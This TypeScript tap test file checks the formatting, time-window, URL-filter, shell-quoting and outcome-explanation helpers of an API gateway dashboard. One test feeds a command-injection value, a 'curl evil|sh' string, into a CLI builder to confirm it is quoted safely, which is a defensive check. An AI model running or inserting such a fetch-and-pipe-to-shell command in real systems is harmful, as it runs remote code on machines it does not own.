import t from 'tap'
import { cliOf, curlOf, shellWord } from './command.ts'
import { boundsOf, durationMs, readFilter, readRange, searchOf, sizeOf, toggled } from './filter.ts'
import { bytes, duration, percent, perSecond, several, changeOf } from './format.ts'
import { exactMoment, exactTime, fromField, moment, relative, toField } from './moment.ts'
import { answererOf, sentenceOf, type Told } from './why.ts'

const AT = new Date('2026-11-21T08:00:00.123Z')

t.test('figures are written with their unit, and little is not nothing', async (t) => {
  t.equal(bytes(0), '0 B')
  t.equal(bytes(1536), '1.5 KiB')
  t.equal(bytes(3 * 1024 ** 3), '3.0 GiB')
  t.equal(bytes(null), '–')
  t.equal(duration(0.25), '0.25 ms')
  t.equal(duration(1500), '1.5 s')
  t.equal(duration(3_600_000), '60 min')
  t.equal(percent(1, 100_000), '<0.1%')
  t.equal(percent(99_999, 100_000), '>99.9%')
  t.equal(percent(0, 0), '–')
  t.equal(perSecond(null), '–')
  t.equal(perSecond(2.26), '2.3')
  t.equal(several(1, 'key'), '1 key')
  t.equal(several(2, 'key'), '2 keys')
})

t.test('a moment has its date and names its zone', async (t) => {
  t.equal(moment(AT, 'utc'), '2026-11-21 08:00:00')
  t.equal(exactMoment(AT, 'utc'), '2026-11-21 08:00:00.123 UTC')
  t.equal(exactTime(AT, 'utc'), '08:00:00.123')
  t.match(exactMoment(AT, 'local'), /^2026-11-2[012] \d\d:\d\d:00\.123 UTC[+-]\d\d:\d\d$/)
  for (const zone of ['utc', 'local'] as const) {
    t.equal(fromField(toField(AT, zone), zone)?.toISOString(), '2026-11-21T08:00:00.000Z')
  }
  t.equal(fromField('', 'utc'), null)
  t.equal(relative(AT, new Date(AT.getTime() + 90_000)), '1 minute ago')
  t.equal(relative(AT, new Date(AT.getTime() - 3 * 86_400_000)), 'in 3 days')
})

t.test('an address bears a search, and gives it back', async (t) => {
  const filter = { tenant: ['acme', 'globex'], status: ['5xx'] }
  const text = searchOf(filter, { since: '1h', until: '' }).toString()
  t.equal(text, 'tenant=acme&tenant=globex&status=5xx&since=1h')
  const query = new URLSearchParams(`${text}&open=1&tenant=acme&route=`)
  t.strictSame(readFilter(query), filter)
  t.strictSame(readRange(query), { since: '1h', until: '' })
  t.strictSame(readRange(new URLSearchParams('')), { since: '1h', until: '' })
  t.equal(sizeOf(filter), 2)
  t.strictSame(toggled(filter, 'tenant', 'acme'), { tenant: ['globex'], status: ['5xx'] })
  t.strictSame(toggled({ status: ['5xx'] }, 'status', '5xx'), {})
})

t.test('a window is durations before now, or moments', async (t) => {
  t.equal(durationMs('15m'), 900_000)
  t.equal(durationMs('an hour'), null)
  t.equal(durationMs('2w'), 1_209_600_000)
  t.equal(durationMs('250ms'), 250)
  const now = new Date('2026-11-21T12:00:00Z')
  const hour = boundsOf({ since: '1h', until: '' }, now)
  t.strictSame([hour.from, hour.to], [new Date('2026-11-21T11:00:00Z'), now])
  const { from, to } = boundsOf({ since: '2026-11-20T03:10:00Z', until: '2026-11-20T03:18:00Z' }, now)
  t.equal(to.getTime() - from.getTime(), 480_000)
})

t.test('a window without a beginning is an hour long', async (t) => {
  const sinceOf = (until: string): string => readRange(new URLSearchParams({ until })).since
  t.equal(sinceOf('2026-11-20T03:18:00Z'), '2026-11-20T02:18:00.000Z')
  t.equal(durationMs(sinceOf('30m')), 5_400_000)
  t.equal(sinceOf('yesterday'), 'yesterday', 'the gateway says what is wrong with it')
})

t.test('lines to copy are safe in a shell, and bear no token', async (t) => {
  t.equal(shellWord('left-pad'), 'left-pad')
  t.equal(shellWord("it's $HOME"), String.raw`'it'\''s $HOME'`)
  t.equal(
    cliOf(
      ['logs'],
      [
        ['--tenant', 'acme'],
        ['--path', '/npm/a b'],
        ['--until', ''],
      ],
    ),
    "waybill logs --tenant acme --path '/npm/a b'",
  )
  t.equal(
    cliOf(['keys', 'show', "x';curl evil|sh;'"]),
    String.raw`waybill keys show 'x'\'';curl evil|sh;'\'''`,
  )
  const line = curlOf('http://127.0.0.1:8090/api/entries?since=1h&limit=2')
  t.equal(
    line,
    `curl -sS -H "Authorization: Bearer $WAYBILL_TOKEN" 'http://127.0.0.1:8090/api/entries?since=1h&limit=2'`,
  )
  t.match(curlOf('http://h/stream', true), /^curl -sSN /)
})

t.test('a change is told in percent, or in a word', async (t) => {
  t.strictSame(
    [
      [112, 100],
      [97, 100],
      [5, 5],
      [5, 0],
      [1001, 1000],
      [0, 4],
      [50_000, 4],
    ].map(([now = 0, before = 0]) => changeOf(now, before)),
    ['+12%', '−3%', 'same', 'new', '+<1%', '−100%', '+1,249,900%'],
  )
})

const ROW: Told = {
  status: 429,
  outcome: 'rate_limited',
  reason: 'tenant_rate',
  tenant: 'acme',
  key_id: 'k1',
  route: 'npm',
  method: 'GET',
  upstream: null,
  client_ip: '10.0.0.1',
}

t.test('a sentence says why a request ended so', async (t) => {
  t.equal(sentenceOf(ROW), 'The rate limit of the tenant acme was used up.')
  t.equal(
    sentenceOf({ ...ROW, outcome: 'unauthenticated', reason: 'expired_key' }),
    'The key k1 had expired.',
  )
  t.equal(
    sentenceOf({ ...ROW, outcome: 'forwarded', reason: null, upstream: 'up.example.com' }),
    'Passed on to up.example.com, which itself said 429: its own limit was used up.',
  )
  t.equal(
    sentenceOf({ ...ROW, outcome: 'of_tomorrow', reason: 'new' }),
    'It ended as of_tomorrow, because of new.',
  )
  t.equal(answererOf(ROW), 'refused')
  t.equal(answererOf({ outcome: 'forwarded', status: 503 }), 'upstream')
  t.equal(answererOf({ outcome: 'internal', status: 500 }), 'gateway')
  t.equal(answererOf({ outcome: 'client_closed', status: 499 }), 'client')
})
